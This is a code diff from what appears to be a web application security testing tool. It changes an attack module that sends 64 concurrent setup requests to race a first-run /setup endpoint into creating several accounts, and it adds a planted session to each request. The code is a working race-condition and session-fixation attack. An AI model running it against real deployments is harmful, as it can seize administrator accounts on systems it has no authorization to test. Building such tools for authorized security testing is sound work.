@@ -1,8 +1,7 @@
 import { randomBytes } from "node:crypto";
 import type { Attack } from "../attack.ts";
 import { Skipped } from "../errors.ts";
-import type { HttpResponse } from "../http/response.ts";
-import { isSuccess, send, type Target } from "../target.ts";
+import { isSuccess, send, sessionToPlant } from "../target.ts";
 
 const RACERS = 64;
 
@@ -23,27 +22,22 @@ export const setupRace: Attack = {
     const password = randomBytes(12).toString("hex");
     const racers = Array.from({ length: RACERS }, (_, at) => `attack ${at} ${SPECIAL_CHARACTERS}`);
     const token = target.access?.setupToken ?? "";
+    const planted = await sessionToPlant(target);
     const responses = await Promise.all(
       racers.map(async (username) => {
         tally.tried();
         const form = { username, password, confirm: password, token };
-        return { username, response: await send(target, { path: "/setup", form }) };
+        const response = await send(target, { path: "/setup", form, session: planted });
+        return { username, response };
       }),
     );
     const winners = responses.filter(({ response }) => isSuccess(response));
-    for (const { username, response } of winners) useAccount(target, username, password, response);
+    for (const { username, response } of winners) {
+      const { session: token, cookies } = response;
+      if (token !== undefined) target.account ??= { username, password, token, cookies, planted };
+    }
     if (winners.length > 1) tally.gotThrough(`${winners.length} accounts were created`);
     if (winners.length === 0)
       throw new Skipped("no setup was accepted; it may require a setup token");
   },
 };
-
-function useAccount(
-  target: Target,
-  username: string,
-  password: string,
-  response: HttpResponse,
-): void {
-  const { session: token, cookies } = response;
-  if (token !== undefined) target.account ??= { username, password, token, cookies };
-}
